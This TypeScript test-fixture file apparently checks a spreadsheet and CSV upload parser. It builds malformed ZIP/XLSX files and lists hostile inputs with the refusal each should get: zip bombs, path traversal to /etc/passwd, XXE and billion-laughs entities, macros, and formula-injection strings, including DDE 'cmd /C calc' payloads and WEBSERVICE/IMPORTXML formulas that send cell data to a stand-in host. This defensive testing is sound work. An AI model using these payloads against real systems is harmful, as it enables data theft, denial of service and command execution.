import { crc32, deflateRawSync } from 'node:zlib';
import type { ErrorCode } from '../../shared/errors.ts';

export interface ZipPart {
  readonly name: string;
  readonly data: Buffer | string;
  readonly stored?: boolean;
  /** What the headers claim instead of the truth. */
  readonly lies?: Partial<{
    size: number;
    packedSize: number;
    crc: number;
    flags: number;
    method: number;
    localName: string;
    attributes: number;
    offset: number;
  }>;
}

/** Writes a ZIP file byte by byte, so that its headers can lie. `count` is what the end record claims. */
export function zip(parts: readonly ZipPart[], { count = parts.length, comment = '' }: { count?: number; comment?: string } = {}): Buffer {
  const files: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, data, stored = false, lies = {} } of parts) {
    const content = Buffer.from(data);
    const packed = stored ? content : deflateRawSync(content);
    const nameBytes = Buffer.from(name);
    const localName = Buffer.from(lies.localName ?? name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(lies.flags ?? 0, 2);
    common.writeUInt16LE(lies.method ?? (stored ? 0 : 8), 4);
    common.writeUInt32LE(lies.crc ?? crc32(content), 10);
    common.writeUInt32LE(lies.packedSize ?? packed.length, 14);
    common.writeUInt32LE(lies.size ?? content.length, 18);
    common.writeUInt16LE(localName.length, 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, localName, packed]);
    const central = Buffer.alloc(46);
    central.write('PK\x01\x02', 0, 'latin1');
    common.copy(central, 6);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(lies.attributes ?? 0, 38);
    central.writeUInt32LE(lies.offset ?? offset, 42);
    directory.push(central, nameBytes);
    files.push(local);
    offset += local.length;
  }
  const index = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(index.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(Buffer.byteLength(comment), 20);
  return Buffer.concat([...files, index, end, Buffer.from(comment)]);
}

const xmlHead = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

export interface WorkbookParts {
  readonly sheetData?: string;
  /** After the sheet's data, as the format wants it. */
  readonly merges?: string;
  readonly strings?: string;
  readonly styles?: string;
  readonly sheets?: string;
  readonly workbookProperties?: string;
  readonly contentTypes?: string;
  readonly rootRelations?: string;
  readonly workbookRelations?: string;
  /** The whole worksheet instead of `sheetData`. */
  readonly worksheet?: Buffer | string;
}

/** The parts of a small correct workbook, some of them replaced. */
export function workbookParts(parts: WorkbookParts = {}): ZipPart[] {
  const sheetData = parts.sheetData ?? row(1, ['名称', '电话']) + row(2, ['张三', '13800000000']);
  const relation = (id: string, type: string, target: string) => `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"/>`;
  const relations = (inside: string) =>
    `${xmlHead}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`;
  const list: ZipPart[] = [
    {
      name: '[Content_Types].xml',
      data: parts.contentTypes ?? `${xmlHead}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
    },
    { name: '_rels/.rels', data: parts.rootRelations ?? relations(relation('rId1', 'officeDocument', 'xl/workbook.xml')) },
    {
      name: 'xl/workbook.xml',
      data: `${xmlHead}<workbook xmlns="${main}" xmlns:r="${office}">${parts.workbookProperties ?? ''}<sheets>${
        parts.sheets ?? '<sheet name="客户" sheetId="1" r:id="rId1"/>'
      }</sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data:
        parts.workbookRelations ??
        relations(
          relation('rId1', 'worksheet', 'worksheets/sheet1.xml') +
            relation('rId2', 'sharedStrings', 'sharedStrings.xml') +
            relation('rId3', 'styles', 'styles.xml'),
        ),
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      data: parts.worksheet ?? `${xmlHead}<worksheet xmlns="${main}"><sheetData>${sheetData}</sheetData>${parts.merges ?? ''}</worksheet>`,
    },
  ];
  if (parts.strings !== undefined)
    list.push({ name: 'xl/sharedStrings.xml', data: `${xmlHead}<sst xmlns="${main}">${parts.strings}</sst>` });
  if (parts.styles !== undefined)
    list.push({ name: 'xl/styles.xml', data: `${xmlHead}<styleSheet xmlns="${main}">${parts.styles}</styleSheet>` });
  return list;
}

export function workbook(parts: WorkbookParts = {}, extra: readonly ZipPart[] = []): Buffer {
  return zip([...workbookParts(parts), ...extra]);
}

/** One row of inline texts; `index` counts from 1. */
export function row(index: number, texts: readonly string[]): string {
  const escape = (text: string) => text.replace(/[&<]/g, (sign) => (sign === '&' ? '&amp;' : '&lt;'));
  return `<row r="${index}">${texts.map((text) => `<c t="inlineStr"><is><t xml:space="preserve">${escape(text)}</t></is></c>`).join('')}</row>`;
}

export interface HostileFile {
  readonly title: string;
  readonly fileName?: string;
  readonly make: () => Buffer;
  /** The refusal it must get; `reads` where the file is odd but harmless. */
  readonly answer: ErrorCode | 'reads';
}

const megabyte = 1024 * 1024;
const cell = (attributes: string, value: string) =>
  `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="2"><c ${attributes}><v>${value}</v></c></row>`;
const replaced = (name: string, data: Buffer | string) =>
  zip(workbookParts().map((part) => (part.name === name ? { ...part, data } : part)));
const lying = (name: string, lies: NonNullable<ZipPart['lies']>) =>
  zip(workbookParts().map((part) => (part.name === name ? { ...part, lies } : part)));
const sheet = 'xl/worksheets/sheet1.xml';
const doctype = (body: string) => `${xmlHead}${body}<worksheet xmlns="${main}"><sheetData>${row(1, ['a', 'b'])}</sheetData></worksheet>`;
const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');
/** Noise does not deflate, so a file can be made large on purpose. */
const noise = (length: number): Buffer => {
  const bytes = Buffer.alloc(length);
  let seed = 1;
  for (let at = 0; at < length; at += 1) {
    seed = (seed * 48_271) % 2_147_483_647;
    bytes[at] = seed & 0xff;
  }
  return bytes;
};
const ole = (inside: string) =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(1024),
    Buffer.from(inside, 'utf16le'),
    Buffer.alloc(512),
  ]);

/** Files that people with bad luck or bad will send (F108, F109, F111). Each is made when it is needed: some are large. */
export const hostileFiles: readonly HostileFile[] = [
  // bombs
  {
    title: 'one part of 90 MB zeros',
    make: () => workbook({}, [{ name: 'xl/media/a.bin', data: Buffer.alloc(90 * megabyte) }]),
    answer: 'fileSuspicious',
  },
  {
    title: 'many parts, together over 100 MB',
    make: () =>
      workbook(
        {},
        Array.from({ length: 120 }, (_, at) => ({ name: `xl/media/${at}.bin`, data: Buffer.alloc(megabyte - 1) })),
      ),
    answer: 'fileSuspicious',
  },
  {
    title: 'declares 10 bytes, unpacks to 20 MB',
    make: () => workbook({}, [{ name: 'xl/media/a.bin', data: Buffer.alloc(20 * megabyte), lies: { size: 10 } }]),
    answer: 'fileSuspicious',
  },
  { title: 'declares 1 MB, unpacks to 2 MB sheet', make: () => lying(sheet, { size: megabyte }), answer: 'fileSuspicious' },
  { title: 'declares 4 GB', make: () => lying(sheet, { size: 0xfffffff0 }), answer: 'fileSuspicious' },
  { title: 'packed size beyond the file', make: () => lying(sheet, { packedSize: 50 * megabyte }), answer: 'fileDamaged' },
  {
    title: 'stored part with two sizes',
    make: () => workbook({}, [{ name: 'xl/media/a.bin', data: 'abc', stored: true, lies: { size: 30 } }]),
    answer: 'fileSuspicious',
  },
  {
    title: '201 entries',
    make: () =>
      workbook(
        {},
        Array.from({ length: 196 }, (_, at) => ({ name: `xl/media/${at}`, data: '' })),
      ),
    answer: 'fileSuspicious',
  },
  {
    title: '65,534 entries of a million',
    make: () => zip(Array.from({ length: 65_534 }, (_, at) => ({ name: `e${at}`, data: '', stored: true }))),
    answer: 'fileSuspicious',
  },
  { title: 'claims a million entries by the overflow mark', make: () => zip(workbookParts(), { count: 0xffff }), answer: 'fileSuspicious' },
  { title: 'claims fewer entries than the directory has', make: () => zip(workbookParts(), { count: 3 }), answer: 'fileSuspicious' },
  {
    title: 'two entries share their bytes',
    make: () =>
      workbook({}, [{ name: 'xl/media/a.bin', data: 'abcdefgh', stored: true, lies: { offset: 0, localName: '[Content_Types].xml' } }]),
    answer: 'fileSuspicious',
  },
  {
    title: 'nested zip by name',
    make: () => workbook({}, [{ name: 'xl/embeddings/inner.zip', data: zip([{ name: 'a', data: 'b' }]) }]),
    answer: 'fileSuspicious',
  },
  {
    title: 'nested zip by content',
    make: () => workbook({}, [{ name: 'xl/media/image1.png', data: zip([{ name: 'a', data: 'b' }]) }]),
    answer: 'fileSuspicious',
  },
  {
    title: 'nested workbook',
    make: () => workbook({}, [{ name: 'xl/embeddings/inner.xlsx', data: workbook() }]),
    answer: 'fileSuspicious',
  },
  // names
  { title: 'path that climbs out', make: () => workbook({}, [{ name: '../../etc/passwd', data: 'x' }]), answer: 'fileSuspicious' },
  {
    title: 'path that climbs out with backslashes',
    make: () => workbook({}, [{ name: 'xl\\..\\..\\a.dll', data: 'x' }]),
    answer: 'fileSuspicious',
  },
  { title: 'absolute path', make: () => workbook({}, [{ name: '/etc/cron.d/a', data: 'x' }]), answer: 'fileSuspicious' },
  { title: 'drive letter', make: () => workbook({}, [{ name: 'C:/Windows/a', data: 'x' }]), answer: 'fileSuspicious' },
  { title: 'NUL in a name', make: () => workbook({}, [{ name: 'xl/a\0.xml', data: 'x' }]), answer: 'fileSuspicious' },
  {
    title: 'symbolic link',
    make: () => workbook({}, [{ name: 'xl/link', data: '/etc/passwd', lies: { attributes: (0o120777 << 16) >>> 0 } }]),
    answer: 'fileSuspicious',
  },
  { title: 'the same name twice', make: () => workbook({}, [{ name: sheet, data: '<worksheet/>' }]), answer: 'fileSuspicious' },
  {
    title: 'another name in the local header',
    make: () => lying(sheet, { localName: 'xl/worksheets/other1.xml' }),
    answer: 'fileSuspicious',
  },
  {
    title: 'part named __proto__',
    make: () =>
      workbook({}, [
        { name: '__proto__', data: 'x' },
        { name: 'constructor', data: 'x' },
      ]),
    answer: 'reads',
  },
  // XML
  {
    title: 'external entity',
    make: () => workbook({ worksheet: doctype('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>') }),
    answer: 'fileSuspicious',
  },
  {
    title: 'billion laughs',
    make: () => workbook({ worksheet: doctype(`<!DOCTYPE a [<!ENTITY l0 "lol">${laughs}]>`) }),
    answer: 'fileSuspicious',
  },
  {
    title: 'remote document type',
    make: () => workbook({ worksheet: doctype('<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd">') }),
    answer: 'fileSuspicious',
  },
  {
    title: 'entity in a part nobody reads',
    make: () => workbook({}, [{ name: 'docProps/core.xml', data: '<!DOCTYPE a [<!ENTITY x "y">]><a/>' }]),
    answer: 'fileSuspicious',
  },
  {
    title: 'entity hidden by UTF-16',
    make: () => workbook({ worksheet: Buffer.from(`\ufeff${doctype('<!DOCTYPE a>')}`, 'utf16le') }),
    answer: 'fileDamaged',
  },
  { title: 'lower-case doctype', make: () => workbook({ worksheet: doctype('<!doctype a>') }), answer: 'fileSuspicious' },
  { title: 'entity in the shared texts', make: () => workbook({ strings: '<!ENTITY a "b"><si><t>x</t></si>' }), answer: 'fileSuspicious' },
  { title: '50,000 elements deep', make: () => workbook({ worksheet: '<worksheet>'.repeat(50_000) }), answer: 'fileDamaged' },
  {
    title: 'attribute of 3 MB without end',
    make: () =>
      workbook({
        worksheet: Buffer.concat([
          Buffer.from('<worksheet a="'),
          Buffer.from(
            noise(3 * megabyte)
              .toString('hex')
              .slice(0, 3 * megabyte),
          ),
        ]),
      }),
    answer: 'fileDamaged',
  },
  {
    title: 'tags that do not match',
    make: () => workbook({ worksheet: '<worksheet><sheetData></worksheet></sheetData>' }),
    answer: 'fileDamaged',
  },
  {
    title: 'sheet cut in the middle of a tag',
    make: () => workbook({ worksheet: '<worksheet><sheetData><row r="1"><c r="A1"><v>1' }),
    answer: 'fileDamaged',
  },
  { title: 'two roots', make: () => workbook({ worksheet: '<worksheet/><worksheet/>' }), answer: 'fileDamaged' },
  {
    title: 'wild character references',
    make: () =>
      workbook({
        sheetData: `<row r="1"><c t="inlineStr"><is><t>&#xFFFFFF;&#0;&#xD800;&nope;甲</t></is></c><c t="inlineStr"><is><t>乙</t></is></c></row>`,
      }),
    answer: 'reads',
  },
  // texts and references
  {
    title: 'shared texts that are the sheet itself',
    make: () =>
      workbook({
        workbookRelations: `<Relationships><Relationship Id="rId1" Type="a/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="a/sharedStrings" Target="worksheets/sheet1.xml"/></Relationships>`,
      }),
    answer: 'fileDamaged',
  },
  {
    title: 'workbook that is its own sheet',
    make: () =>
      workbook({ workbookRelations: `<Relationships><Relationship Id="rId1" Type="a/worksheet" Target="workbook.xml"/></Relationships>` }),
    answer: 'fileDamaged',
  },
  {
    title: 'shared text number 999999999',
    make: () => workbook({ sheetData: cell('r="A2" t="s"', '999999999'), strings: '<si><t>x</t></si>' }),
    answer: 'fileDamaged',
  },
  {
    title: 'shared text number -1',
    make: () => workbook({ sheetData: cell('r="A2" t="s"', '-1'), strings: '<si><t>x</t></si>' }),
    answer: 'fileDamaged',
  },
  {
    title: 'shared text number __proto__',
    make: () => workbook({ sheetData: cell('r="A2" t="s"', '__proto__'), strings: '<si><t>x</t></si>' }),
    answer: 'fileDamaged',
  },
  {
    title: 'one long text shared by every cell',
    make: () =>
      workbook({
        strings: `<si><t>${'甲'.repeat(32_000)}</t></si>`,
        sheetData: Array.from({ length: 800 }, (_, at) => `<row r="${at + 1}">${'<c t="s"><v>0</v></c>'.repeat(50)}</row>`).join(''),
      }),
    answer: 'fileTooLarge',
  },
  {
    title: 'text of 500,000 characters in one cell',
    make: () => workbook({ sheetData: row(1, ['名称', '备注']) + row(2, ['甲', noise(250_000).toString('hex')]) }),
    answer: 'reads',
  },
  {
    title: 'two million shared texts',
    make: () => workbook({ strings: Array.from({ length: 2_000_001 }, (_, at) => `<si><t>${at}</t></si>`).join('') }),
    answer: 'fileTooLarge',
  },
  {
    title: 'row number beyond the sheet',
    make: () => workbook({ sheetData: '<row r="9999999999"><c t="inlineStr"><is><t>a</t></is></c></row>' }),
    answer: 'fileTooManyRows',
  },
  { title: 'cell reference that is none', make: () => workbook({ sheetData: cell('r="ZZZZ99"', '1') }), answer: 'fileDamaged' },
  { title: 'negative row number', make: () => workbook({ sheetData: '<row r="-5"><c><v>1</v></c></row>' }), answer: 'fileDamaged' },
  {
    title: 'two cells at the corners of the sheet',
    make: () => workbook({ sheetData: cell('r="XFD1048576"', '1') }),
    answer: 'fileTooManyRows',
  },
  {
    title: '50,001 rows',
    make: () => workbook({ sheetData: Array.from({ length: 50_001 }, (_, at) => `<row r="${at + 1}"><c><v>${at}</v></c></row>`).join('') }),
    answer: 'fileTooManyRows',
  },
  {
    title: '201 columns',
    make: () =>
      workbook({
        sheetData: row(
          1,
          Array.from({ length: 201 }, (_, at) => `栏${at}`),
        ),
      }),
    answer: 'fileTooManyRows',
  },
  {
    title: 'style number a million',
    make: () => workbook({ sheetData: cell('r="A2" s="1000000"', '45000'), styles: '<cellXfs><xf numFmtId="14"/></cellXfs>' }),
    answer: 'reads',
  },
  {
    title: 'number format of 100,000 brackets',
    make: () =>
      workbook({
        styles: `<numFmts><numFmt numFmtId="200" formatCode="${'['.repeat(100_000)}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>`,
        sheetData: cell('r="A2" s="0"', '5'),
      }),
    answer: 'reads',
  },
  {
    title: '60,000 merged areas',
    make: () => workbook({ merges: `<mergeCells>${'<mergeCell ref="A1:B2"/>'.repeat(60_000)}</mergeCells>` }),
    answer: 'fileSuspicious',
  },
  {
    title: 'the whole sheet merged again and again',
    make: () =>
      workbook({
        sheetData:
          row(
            1,
            Array.from({ length: 200 }, () => 'x'),
          ) + row(5000, ['y']),
        merges: `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(100)}</mergeCells>`,
      }),
    answer: 'fileSuspicious',
  },
  {
    title: 'merged area upside down',
    make: () => workbook({ merges: '<mergeCells><mergeCell ref="B9:A1"/></mergeCells>' }),
    answer: 'fileDamaged',
  },
  {
    title: 'formula that fetches',
    make: () =>
      workbook({
        sheetData: `${row(1, ['名称', '数量'])}<row r="2"><c t="str"><f>WEBSERVICE("http://192.0.2.1/"&amp;A1)</f><v>甲</v></c><c><f>1/0</f><v>7</v></c></row>`,
      }),
    answer: 'reads',
  },
  // macros, locks, wrong types
  {
    title: 'macros',
    fileName: 'a.xlsm',
    make: () => workbook({}, [{ name: 'xl/vbaProject.bin', data: 'Attribute VB_Name' }]),
    answer: 'fileSuspicious',
  },
  { title: 'macros in a file named .xlsx', make: () => workbook({}, [{ name: 'xl/VBAProject.bin', data: 'x' }]), answer: 'fileSuspicious' },
  {
    title: 'macro sheet of 1992',
    make: () => workbook({}, [{ name: 'xl/macrosheets/sheet1.xml', data: '<a/>' }]),
    answer: 'fileSuspicious',
  },
  {
    title: 'embedded program',
    make: () => workbook({}, [{ name: 'xl/media/image1.png', data: Buffer.from('MZ\x90\0\x03', 'latin1') }]),
    answer: 'fileSuspicious',
  },
  { title: 'locked with a password', make: () => ole('EncryptionInfo EncryptedPackage'), answer: 'fileEncrypted' },
  { title: 'entry encrypted by the zip', make: () => lying(sheet, { flags: 1 }), answer: 'fileEncrypted' },
  { title: '.xls of 2003', fileName: 'a.xls', make: () => ole('Workbook'), answer: 'fileTypeUnsupported' },
  { title: '.xls renamed to .csv', fileName: 'a.csv', make: () => ole('Workbook'), answer: 'fileTypeUnsupported' },
  { title: 'CSV renamed to .xlsx', make: () => Buffer.from('a,b\n1,2\n'), answer: 'fileTypeUnsupported' },
  { title: 'workbook renamed to .csv', fileName: 'a.csv', make: () => workbook(), answer: 'reads' },
  {
    title: 'web page named .csv',
    fileName: 'a.csv',
    make: () => Buffer.from('<!DOCTYPE html><html><table><tr><td>1</td></tr></table>'),
    answer: 'fileTypeUnsupported',
  },
  {
    title: 'picture named .csv',
    fileName: 'a.csv',
    make: () => Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), noise(5000)]),
    answer: 'fileDamaged',
  },
  { title: 'program named .exe', fileName: 'a.exe', make: () => workbook(), answer: 'fileTypeUnsupported' },
  { title: 'no extension', fileName: 'a', make: () => workbook(), answer: 'fileTypeUnsupported' },
  { title: 'zip that is no workbook', make: () => zip([{ name: 'readme.txt', data: 'hello' }]), answer: 'fileTypeUnsupported' },
  {
    title: 'text document',
    make: () =>
      replaced('_rels/.rels', '<Relationships><Relationship Id="r" Type="a/officeDocument" Target="word/document.xml"/></Relationships>'),
    answer: 'fileDamaged',
  },
  {
    title: 'binary workbook',
    make: () =>
      workbook(
        { rootRelations: '<Relationships><Relationship Id="r" Type="a/officeDocument" Target="xl/workbook.bin"/></Relationships>' },
        [{ name: 'xl/workbook.bin', data: 'x' }],
      ),
    answer: 'fileTypeUnsupported',
  },
  // damage
  { title: 'empty file', make: () => Buffer.alloc(0), answer: 'fileEmpty' },
  { title: 'empty zip', make: () => zip([]), answer: 'fileTypeUnsupported' },
  { title: 'empty sheet', make: () => workbook({ sheetData: '' }), answer: 'fileEmpty' },
  {
    title: 'only hidden sheets',
    make: () => workbook({ sheets: '<sheet name="a" sheetId="1" state="hidden" r:id="rId1"/>' }),
    answer: 'fileEmpty',
  },
  { title: 'blank CSV', fileName: 'a.csv', make: () => Buffer.from(' \r\n\r\n , , \n'), answer: 'fileEmpty' },
  { title: 'cut in half', make: () => workbook().subarray(0, 600), answer: 'fileDamaged' },
  { title: 'cut by one byte', make: () => workbook().subarray(0, -1), answer: 'fileDamaged' },
  { title: 'wrong checksum', make: () => lying(sheet, { crc: 1 }), answer: 'fileDamaged' },
  {
    title: 'noise instead of deflate',
    make: () =>
      zip(
        workbookParts().map((part) => (part.name === sheet ? { name: sheet, data: noise(500), stored: true, lies: { method: 8 } } : part)),
      ),
    answer: 'fileDamaged',
  },
  { title: 'unknown compression', make: () => lying(sheet, { method: 99 }), answer: 'fileDamaged' },
  { title: 'no sheet behind the reference', make: () => zip(workbookParts().filter((part) => part.name !== sheet)), answer: 'fileEmpty' },
  { title: 'no workbook', make: () => zip(workbookParts().filter((part) => part.name !== 'xl/workbook.xml')), answer: 'fileDamaged' },
  {
    title: 'noise behind the zip magic',
    make: () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), noise(100_000)]),
    answer: 'fileDamaged',
  },
  { title: '11 MB', fileName: 'a.csv', make: () => Buffer.alloc(11 * megabyte, 'a,b\n'), answer: 'fileTooLarge' },
  // CSV
  {
    title: 'CSV of 9 MB line ends',
    fileName: 'a.csv',
    make: () => Buffer.concat([Buffer.from('a,b\n'), Buffer.alloc(9 * megabyte, '\n'), Buffer.from('c,d')]),
    answer: 'fileTooManyRows',
  },
  {
    title: 'CSV of 9 MB commas',
    fileName: 'a.csv',
    make: () => Buffer.concat([Buffer.alloc(9 * megabyte, ','), Buffer.from('x')]),
    answer: 'fileTooManyRows',
  },
  { title: 'CSV of 9 MB quotes', fileName: 'a.csv', make: () => Buffer.alloc(9 * megabyte, '"'), answer: 'reads' },
  { title: 'CSV with a quote never closed', fileName: 'a.csv', make: () => Buffer.from('a,b\n1,"2\n3,4\n'), answer: 'fileDamaged' },
  { title: 'CSV with NUL', fileName: 'a.csv', make: () => Buffer.from('a,b\n1,\0\n'), answer: 'fileTypeUnsupported' },
  {
    title: 'CSV in no known encoding',
    fileName: 'a.csv',
    make: () => Buffer.from([0x61, 0x2c, 0x62, 0x0a, 0xff, 0xff, 0x2c, 0xff]),
    answer: 'fileDamaged',
  },
  {
    title: 'CSV titles __proto__ and constructor',
    fileName: 'a.csv',
    make: () => Buffer.from('__proto__,constructor,toString\n{"a":1},x,y\n'),
    answer: 'reads',
  },
];

/** GB18030 bytes of a text (characters of one or two bytes): Node decodes that encoding but does not write it. */
export function encodeGb18030(text: string): Buffer {
  const decoder = new TextDecoder('gb18030');
  const bytes = new Map<string, readonly number[]>();
  for (let lead = 0x81; lead <= 0xfe; lead += 1) {
    for (let trail = 0x40; trail <= 0xfe; trail += 1)
      if (trail !== 0x7f) bytes.set(decoder.decode(Uint8Array.of(lead, trail)), [lead, trail]);
  }
  return Buffer.from([...text].flatMap((char) => (char.charCodeAt(0) < 0x80 ? [char.charCodeAt(0)] : [...(bytes.get(char) ?? [0x3f])])));
}

/** Texts that a spreadsheet may run (F107), among harmless ones that must come back unchanged. */
export const formulaTexts: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"点击")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1',
  '=1\tx',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1",
  "'普通",
  '"=1"',
  '=1,2',
  '=1"x"',
  ';=1',
  '%0A=1',
  ' =1',
  '-',
  '=',
  '@',
  '+86 13800000000',
  '-5',
  '0013',
  '1e5',
  'TRUE',
  '张三',
  'a\nb',
  'a,b',
  '"q"',
  '_x0041_',
  '_x005F_',
  '<b>&amp;</b>',
  '=IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
  '=DDE("cmd";"/C calc";"1")',
  'emoji 😀 𠮷',
  '__proto__',
];
